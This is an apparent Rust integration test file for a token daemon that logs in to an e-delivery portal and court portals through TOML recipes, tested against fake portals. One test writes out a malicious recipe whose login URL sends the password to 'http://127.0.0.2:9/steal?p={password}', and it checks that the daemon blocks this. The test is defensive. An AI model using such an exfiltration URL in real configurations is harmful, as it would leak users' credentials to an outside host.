//! Portal recipes (issue 26) against a fake of the provincial e-delivery portal, on the real
//! daemon: `examples/recipes/edelivery.toml` logs in (nonce, raw PNG captcha, the double-MD5
//! password) and the token goes out as `X-Access-Token`; a wrong captcha is retried with a
//! fresh nonce and captcha; a wrong password is a credential error; `tokend recipe check`
//! traces each step and names the one whose answer changed; a broken recipe stops start-up
//! naming the file, the step and the key.

use std::path::Path;
use std::process::Output;
use std::time::Duration;

use serde_json::json;

use crate::support::edelivery_portal::{expected_pwd, EdeliveryPortal};
use crate::support::harness::Harness;
use crate::support::{self, court_portal, forward_proxy};

const RETRY: &str = "[retry]\nmax_network_retries = 1\nnetwork_retry_delay_base = 0.05\n\
                     max_captcha_retries = 3\ncaptcha_retry_delay = 0.05\nlogin_timeout = 20\n";

/// A solver that reads the answer the fake portal wrote into its image.
const SOLVER: &str = "import re, sys\n\
data = sys.stdin.buffer.read()\n\
m = re.search(rb'answer=(\\w+)', data)\n\
print(m.group(1).decode() if m else '')\n";

fn example() -> String {
    format!(
        "{}/examples/recipes/edelivery.toml",
        env!("CARGO_MANIFEST_DIR")
    )
}

/// The `edelivery` site on `portal`, its recipe `recipe` (a path or a built-in's name).
fn site(dir: &Path, portal: &EdeliveryPortal, recipe: &str) -> String {
    let solver = dir.join("solve.py");
    std::fs::write(&solver, SOLVER).unwrap();
    format!(
        "[[sites]]\nname = \"edelivery\"\ndriver = \"recipe\"\nrecipe = \"{recipe}\"\n\
         base_url = \"{}\"\ncaptcha_solver = [\"python3\", \"{}\"]\ncaptcha_solver_timeout = 5\n",
        portal.base(),
        solver.display()
    )
}

async fn start(dir: &Path, portal: &EdeliveryPortal, recipe: &str) -> Harness {
    Harness::builder()
        .retry(RETRY)
        .extra(&site(dir, portal, recipe))
        .start()
        .await
}

#[actix_rt::test]
async fn an_edelivery_login_hands_out_the_token_as_x_access_token() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("alice", "密码-Passw0rd");
    let h = start(dir.path(), &portal, &example()).await;
    h.add_account_on("edelivery", "alice", "密码-Passw0rd", false);

    let (status, body) = h.acquire(json!({"site_name": "edelivery"})).await;
    assert_eq!(status, 200, "{body}");
    let data = &body["data"];
    let token = data["token"].as_str().unwrap();
    assert_eq!(portal.state.issued.lock().unwrap().as_slice(), [token]);
    assert_eq!(
        data["headers"],
        json!({ "X-Access-Token": token }),
        "{data}"
    );
    assert_eq!(data["authorization"], json!(null), "{data}");
    assert_eq!(data["token_type"], "X-Access-Token: {token}", "{data}");
    // The portal's `expiresIn` (1800 s) is the token's life.
    let expires = chrono::DateTime::parse_from_rfc3339(data["expires_at"].as_str().unwrap())
        .unwrap()
        .timestamp();
    let left = expires - chrono::Utc::now().timestamp();
    assert!((1700..=1800).contains(&left), "{left}");
    // The header as handed out opens the portal's API.
    let me = reqwest::Client::new()
        .get(format!("{}/api/me", portal.base()))
        .header("X-Access-Token", token)
        .send()
        .await
        .unwrap();
    assert_eq!(me.status().as_u16(), 200);
    // `pwd` is exactly base64(md5hex(md5hex(password) + nonce)).
    let received = portal.state.received.lock().unwrap().clone();
    assert_eq!(received.len(), 1);
    let (nonce, pwd) = &received[0];
    assert_eq!(pwd, &expected_pwd("密码-Passw0rd", nonce));
    // Known answer: md5("pw") = 8fe4c11451281c094a6578e6ddbf5eed.
    assert_eq!(
        expected_pwd("pw", "n1"),
        base64_of(&md5_hex(&format!("{}n1", md5_hex("pw"))))
    );
    assert_eq!(md5_hex("pw"), "8fe4c11451281c094a6578e6ddbf5eed");
}

fn md5_hex(text: &str) -> String {
    use md5::Digest;
    hex::encode(md5::Md5::digest(text.as_bytes()))
}

fn base64_of(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

#[actix_rt::test]
async fn the_built_in_recipe_works_by_name_and_a_wrong_captcha_gets_a_fresh_nonce() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("bob", "pw-bob");
    portal
        .state
        .wrong_answers
        .store(1, std::sync::atomic::Ordering::SeqCst);
    let h = start(dir.path(), &portal, "edelivery").await;
    h.add_account_on("edelivery", "bob", "pw-bob", false);

    let (status, body) = h.acquire(json!({"site_name": "edelivery"})).await;
    assert_eq!(status, 200, "{body}");
    let state = &portal.state;
    assert_eq!(EdeliveryPortal::count(&state.logins), 2);
    assert_eq!(EdeliveryPortal::count(&state.nonces_issued), 2);
    assert_eq!(EdeliveryPortal::count(&state.captchas_issued), 2);
    let nonces = state.login_nonces.lock().unwrap().clone();
    assert_ne!(nonces[0], nonces[1], "the retry asked for a fresh nonce");
    let rows = h.history().await;
    assert_eq!(rows[0].status, "success");
}

#[actix_rt::test]
async fn a_wrong_password_is_a_credential_error_and_not_retried() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("carol", "the-right-one");
    let h = start(dir.path(), &portal, &example()).await;
    h.add_account_on("edelivery", "carol", "a-wrong-one", false);

    let (status, body) = h.acquire(json!({"site_name": "edelivery"})).await;
    assert_eq!(status, 502, "{body}");
    assert_eq!(body["errors"]["error_type"], "credential_error", "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("账号或密码错误"),
        "{body}"
    );
    assert!(!body.to_string().contains("a-wrong-one"), "{body}");
    assert_eq!(EdeliveryPortal::count(&portal.state.logins), 1);
    let (status, body) = h
        .api_get("/api/v1/automation/accounts?site_name=edelivery")
        .await;
    assert_eq!(status, 200, "{body}");
    let carol = &body["data"]["accounts"][0];
    assert_eq!(carol["account"], "carol", "{body}");
    assert_eq!(carol["state"], "blacklisted", "{body}");
}

fn run(dir: &Path, config: &Path, args: &[&str]) -> Output {
    support::run_cli_with_config(dir, config, args, "")
}

#[test]
fn recipe_check_traces_each_step_and_names_the_one_that_changed() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("alice", "pw-secret-1");
    let config = support::write_config(
        dir.path(),
        &format!("{RETRY}{}", site(dir.path(), &portal, &example())),
    );
    support::add_account(dir.path(), &config, "edelivery", "alice", "pw-secret-1");

    let out = run(dir.path(), &config, &["recipe", "check", "edelivery"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for expected in [
        "step 1 `nonce`",
        "GET http://",
        "→ HTTP 200",
        "set nonce = ",
        "step 2 `captcha`",
        "set code = <",
        "step 3 `login`",
        "POST http://",
        "set pwd = <",
        "answer: success",
        "X-Access-Token: {token}",
        "OK",
    ] {
        assert!(stdout.contains(expected), "{expected:?} in\n{stdout}");
    }
    let issued = portal.state.issued.lock().unwrap().clone();
    assert_eq!(issued.len(), 1);
    let (nonce, pwd) = portal.state.received.lock().unwrap()[0].clone();
    for secret in [issued[0].as_str(), "pw-secret-1", pwd.as_str()] {
        assert!(!stdout.contains(secret), "{secret} in\n{stdout}");
    }
    assert!(stdout.contains(&nonce), "a public variable is shown");

    // The portal changed the shape of its nonce answer.
    *portal.state.canned_nonce.lock().unwrap() =
        Some(json!({"code": 0, "data": {"nonceValue": "abc"}}));
    let out = run(dir.path(), &config, &["recipe", "check", "edelivery"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(
        stdout.contains("STOP: step `nonce`: extract.nonce: no `/data/nonce` in the answer"),
        "{stdout}"
    );
    assert!(
        stdout.contains("nonceValue"),
        "the trace shows the answer's shape: {stdout}"
    );
    assert!(!stdout.contains("step 2"), "{stdout}");
    // Nothing was stored: no history, no token, the account untouched.
    assert_eq!(EdeliveryPortal::count(&portal.state.logins), 1);
}

#[test]
fn a_broken_recipe_stops_start_up_naming_the_file_the_step_and_the_key() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    let broken = std::fs::read_to_string(example())
        .unwrap()
        .replace("md5(md5(password) + nonce)", "md5(md5(password) + nonse)");
    let recipe = dir.path().join("broken.toml");
    std::fs::write(&recipe, broken).unwrap();
    let config = support::write_config(
        dir.path(),
        &site(dir.path(), &portal, &recipe.display().to_string()),
    );
    let out = run(dir.path(), &config, &["recipe", "list"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(78), "{stderr}");
    for part in [
        "sites[0].recipe",
        "broken.toml",
        "steps[2] (`login`).set.pwd",
        "`nonse` is not set",
    ] {
        assert!(stderr.contains(part), "{part:?} in {stderr}");
    }
}

#[test]
fn recipe_list_and_show_print_the_built_in_recipes() {
    let dir = tempfile::tempdir().unwrap();
    let config = support::write_config(dir.path(), "");
    let out = run(dir.path(), &config, &["recipe", "list"]);
    let listed = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(listed.starts_with("edelivery\t"), "{listed}");
    assert!(listed.contains("\ncourt_zxfw\t"), "{listed}");
    assert!(listed.contains("\ncourt_baoquan\t"), "{listed}");
    let out = run(dir.path(), &config, &["recipe", "show", "edelivery"]);
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(shown, std::fs::read_to_string(example()).unwrap());
}

#[test]
fn the_daemon_logs_the_trace_of_an_unrecognised_answer_and_never_a_secret() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("alice", "pw-secret-2");
    let config = support::write_config(
        dir.path(),
        &format!(
            "[server]\nlisten = \"127.0.0.1:0\"\n{RETRY}{}",
            site(dir.path(), &portal, &example())
        ),
    );
    support::add_account(dir.path(), &config, "edelivery", "alice", "pw-secret-2");
    // The account that meets the changed portal cools down: the other one logs in after.
    portal.accept("bob", "pw-secret-2b");
    support::add_account(dir.path(), &config, "edelivery", "bob", "pw-secret-2b");
    let mut daemon = support::Daemon::start(dir.path(), &config);
    let acquire = daemon.url("/api/v1/automation/tokens/acquire");
    let post = |url: &str| {
        let url = url.to_string();
        actix_web::rt::System::new().block_on(async move {
            let r = reqwest::Client::new()
                .post(&url)
                .json(&json!({"site_name": "edelivery"}))
                .send()
                .await
                .unwrap();
            (
                r.status().as_u16(),
                r.json::<serde_json::Value>().await.unwrap(),
            )
        })
    };
    *portal.state.canned_nonce.lock().unwrap() =
        Some(json!({"code": 0, "data": {"nonceValue": "abc"}}));
    let (status, body) = post(&acquire);
    assert_eq!(status, 502, "{body}");
    assert_eq!(body["errors"]["error_type"], "failed", "{body}");
    let mut log = Vec::new();
    support::wait_until_blocking(
        "the recipe's trace in the log",
        Duration::from_secs(15),
        || {
            log.extend(daemon.drain_log());
            log.iter()
                .any(|l| l.contains("event=recipe_trace") && l.contains("STOP: step `nonce`"))
                .then_some(())
        },
    );
    assert!(log
        .iter()
        .any(|l| l.contains("event=recipe_trace") && l.contains("step 1 `nonce`")));

    *portal.state.canned_nonce.lock().unwrap() = None;
    let (status, body) = post(&acquire);
    assert_eq!(status, 200, "{body}");
    let token = body["data"]["token"].as_str().unwrap().to_string();
    support::wait_until_blocking(
        "the login's steps in the log",
        Duration::from_secs(15),
        || {
            log.extend(daemon.drain_log());
            log.iter()
                .any(|l| l.contains("event=recipe_step") && l.contains("step=login"))
                .then_some(())
        },
    );
    let (_, pwd) = portal.state.received.lock().unwrap()[0].clone();
    let all = log.join("\n");
    for secret in [token.as_str(), "pw-secret-2", pwd.as_str()] {
        assert!(!secret.is_empty());
        assert!(!all.contains(secret), "{secret} in the log:\n{all}");
    }
}

#[test]
fn a_recipe_cannot_send_anything_to_a_host_it_does_not_list() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("alice", "pw-secret-3");
    let leaky = std::fs::read_to_string(example()).unwrap().replace(
        "url = \"/auth/login\"",
        "url = \"http://127.0.0.2:9/steal?p={password}\"",
    );
    let recipe = dir.path().join("leaky.toml");
    std::fs::write(&recipe, leaky).unwrap();
    let config = support::write_config(
        dir.path(),
        &format!(
            "{RETRY}{}",
            site(dir.path(), &portal, &recipe.display().to_string())
        ),
    );
    support::add_account(dir.path(), &config, "edelivery", "alice", "pw-secret-3");
    let out = run(dir.path(), &config, &["recipe", "check", "edelivery"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(stdout.contains("is not on a host of the site"), "{stdout}");
    assert!(!stdout.contains("pw-secret-3"), "{stdout}");
    assert_eq!(EdeliveryPortal::count(&portal.state.logins), 0);
}

/// The zxfw login written as a recipe (`examples/recipes/court_zxfw.toml`, built in as
/// `court_zxfw`) logs in to the court test portal that speaks SPEC §15 byte for byte.
#[actix_rt::test]
async fn the_zxfw_recipe_logs_in_to_the_court_portal_and_its_token_goes_raw() {
    let dir = tempfile::tempdir().unwrap();
    let court = court_portal::CourtPortal::start();
    court
        .state
        .key_with_prefix
        .store(true, std::sync::atomic::Ordering::SeqCst);
    court
        .state
        .wrong_answers
        .store(1, std::sync::atomic::Ordering::SeqCst);
    court.accept("alice", "密码-Passw0rd");
    let solver = dir.path().join("solve.py");
    std::fs::write(&solver, SOLVER).unwrap();
    let site = format!(
        "[[sites]]\nname = \"zxfw\"\ndriver = \"recipe\"\nrecipe = \"court_zxfw\"\n\
         base_url = \"{}\"\ncaptcha_solver = [\"python3\", \"{}\"]\n",
        court.zxfw_base(),
        solver.display()
    );
    let h = Harness::builder().retry(RETRY).extra(&site).start().await;
    h.add_account_on("zxfw", "alice", "密码-Passw0rd", false);

    let (status, body) = h.acquire(json!({"site_name": "zxfw"})).await;
    assert_eq!(status, 200, "{body}");
    let data = &body["data"];
    let token = data["token"].as_str().unwrap();
    assert_eq!(data["headers"], json!({ "Authorization": token }), "{data}");
    assert_eq!(data["authorization"], token, "{data}");
    assert_eq!(data["token_type"], "", "sent raw, as court_zxfw's: {data}");
    // The wrong captcha was retried; the portal decrypted exactly the password.
    assert_eq!(
        court.state.decrypted.lock().unwrap().as_slice(),
        ["密码-Passw0rd"]
    );
    assert_eq!(court.state.login_captcha_ids.lock().unwrap().len(), 2);
    let me = reqwest::Client::new()
        .get(court.url("/zxfw/api/v1/me"))
        .header("Authorization", token)
        .send()
        .await
        .unwrap();
    assert_eq!(me.status().as_u16(), 200);
    // Its life is the JWT's exp (7200 s), not the recipe's default hour.
    let expires = chrono::DateTime::parse_from_rfc3339(data["expires_at"].as_str().unwrap())
        .unwrap()
        .timestamp();
    assert!(expires - chrono::Utc::now().timestamp() > 7000);
}

/// A recipe site with `from_site` exchanges its parent's token (`{parent_token}`): one parent
/// login and one exchange, then the cache; the recipe's mistakes about it stop start-up.
#[actix_rt::test]
async fn a_recipe_exchanges_the_token_of_its_parent_site() {
    let dir = tempfile::tempdir().unwrap();
    let court = court_portal::CourtPortal::start();
    court.accept("alice", "pw-alice");
    let solver = dir.path().join("solve.py");
    std::fs::write(&solver, SOLVER).unwrap();
    let recipe = dir.path().join("exchange.toml");
    std::fs::write(
        &recipe,
        "name = \"exchange\"\n[[steps]]\nname = \"exchange\"\nmethod = \"POST\"\nurl = \"/exchange\"\n\
         headers = { X-Parent-Token = \"{parent_token}\" }\n\
         [steps.extract]\ntoken = { json = \"/access_token\", secret = true }\n\
         expires = { json = \"/expires_in\" }\n\
         [token]\nvalue = \"token\"\nexpires_in = \"expires\"\n",
    )
    .unwrap();
    let sites = format!(
        "[[sites]]\nname = \"zxfw\"\ndriver = \"court_zxfw\"\nbase_url = \"{}\"\n\
         captcha_solver = [\"python3\", \"{}\"]\n\
         [[sites]]\nname = \"child\"\ndriver = \"recipe\"\nrecipe = \"{}\"\nfrom_site = \"zxfw\"\n\
         base_url = \"{}\"\n",
        court.zxfw_base(),
        solver.display(),
        recipe.display(),
        court.url("")
    );
    let h = Harness::builder().retry(RETRY).extra(&sites).start().await;
    h.add_account_on("zxfw", "alice", "pw-alice", false);

    for _ in 0..3 {
        let (status, body) = h.acquire(json!({"site_name": "child"})).await;
        assert_eq!(status, 200, "{body}");
        let token = body["data"]["token"].as_str().unwrap();
        assert!(token.starts_with("derived-1-from-"), "{body}");
        assert_eq!(
            body["data"]["headers"],
            json!({"Authorization": format!("Bearer {token}")})
        );
    }
    assert_eq!(
        court_portal::CourtPortal::count(&court.state.zxfw_logins),
        1
    );
    assert_eq!(court_portal::CourtPortal::count(&court.state.exchanges), 1);

    // A recipe that reads `parent_token` needs from_site, and the other way round.
    let config = support::write_config(
        dir.path(),
        &format!(
            "[[sites]]\nname = \"child\"\ndriver = \"recipe\"\nrecipe = \"{}\"\nbase_url = \"http://x\"\n",
            recipe.display()
        ),
    );
    let out = run(dir.path(), &config, &["recipe", "list"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(78), "{stderr}");
    assert!(
        stderr.contains("sites[0].recipe") && stderr.contains("set from_site"),
        "{stderr}"
    );
}

/// An account's own proxy carries every step of its recipe logins (the cookie binding the
/// nonce and the captcha survives the proxy), and nobody else's.
#[actix_rt::test]
async fn an_accounts_own_proxy_carries_every_step_of_its_recipe_login() {
    let dir = tempfile::tempdir().unwrap();
    let portal = EdeliveryPortal::start();
    portal.accept("alice", "pw-a");
    portal.accept("bob", "pw-b");
    let proxy = forward_proxy::ForwardProxy::start();
    let h = start(dir.path(), &portal, &example()).await;
    h.add_account_on("edelivery", "alice", "pw-a", false);
    h.add_account_on("edelivery", "bob", "pw-b", false);
    let state = &h.tokend.state;
    tokend::accounts::set_proxy(
        &state.pool,
        &state.key,
        "edelivery",
        "alice",
        Some(&tokend::vault::secret::Secret::new(proxy.url())),
    )
    .unwrap();
    for account in ["alice", "bob"] {
        let body = json!({"site_name": "edelivery", "account": account});
        let (status, body) = h.acquire(body).await;
        assert_eq!(status, 200, "{body}");
    }
    let carried = proxy.carried.lock().unwrap().clone();
    let paths: Vec<&str> = ["/auth/nonce", "/auth/captcha", "/auth/login"].to_vec();
    for path in &paths {
        let n = carried.iter().filter(|r| r.contains(path)).count();
        assert_eq!(n, 1, "{path} through alice's proxy: {carried:?}");
    }
    let login = carried.iter().find(|r| r.contains("/auth/login")).unwrap();
    assert!(login.contains("account=alice"), "{login}");
    assert_eq!(EdeliveryPortal::count(&portal.state.logins), 2);
}

/// The baoquan exchange written as a recipe (built in as `court_baoquan`), under a native
/// zxfw site: one zxfw login, one OAuth code at the parent's API root, then the cache; the
/// token goes as `Authorization: Bearer`.
#[actix_rt::test]
async fn the_baoquan_recipe_exchanges_a_zxfw_token_through_an_oauth_code() {
    let dir = tempfile::tempdir().unwrap();
    let court = court_portal::CourtPortal::start();
    court.accept("alice", "pw-alice");
    let solver = dir.path().join("solve.py");
    std::fs::write(&solver, SOLVER).unwrap();
    let sites = format!(
        "[[sites]]\nname = \"zxfw\"\ndriver = \"court_zxfw\"\nbase_url = \"{}\"\n\
         captcha_solver = [\"python3\", \"{}\"]\n\
         [[sites]]\nname = \"baoquan\"\ndriver = \"recipe\"\nrecipe = \"court_baoquan\"\n\
         from_site = \"zxfw\"\nbase_url = \"{}\"\n",
        court.zxfw_base(),
        solver.display(),
        court.baoquan_base()
    );
    let h = Harness::builder().retry(RETRY).extra(&sites).start().await;
    h.add_account_on("zxfw", "alice", "pw-alice", false);
    for _ in 0..3 {
        let (status, body) = h.acquire(json!({"site_name": "baoquan"})).await;
        assert_eq!(status, 200, "{body}");
        let authorization = body["data"]["authorization"].as_str().unwrap();
        assert!(authorization.starts_with("Bearer "), "{body}");
        assert_eq!(body["data"]["token_type"], "Bearer", "{body}");
        let me = reqwest::Client::new()
            .get(court.url("/baoquan/api/me"))
            .header("Authorization", authorization)
            .send()
            .await
            .unwrap();
        assert_eq!(me.status().as_u16(), 200);
    }
    let count = court_portal::CourtPortal::count;
    assert_eq!(count(&court.state.zxfw_logins), 1);
    assert_eq!(count(&court.state.oauth_codes), 1);
    assert_eq!(count(&court.state.baoquan_tokens), 1);
}
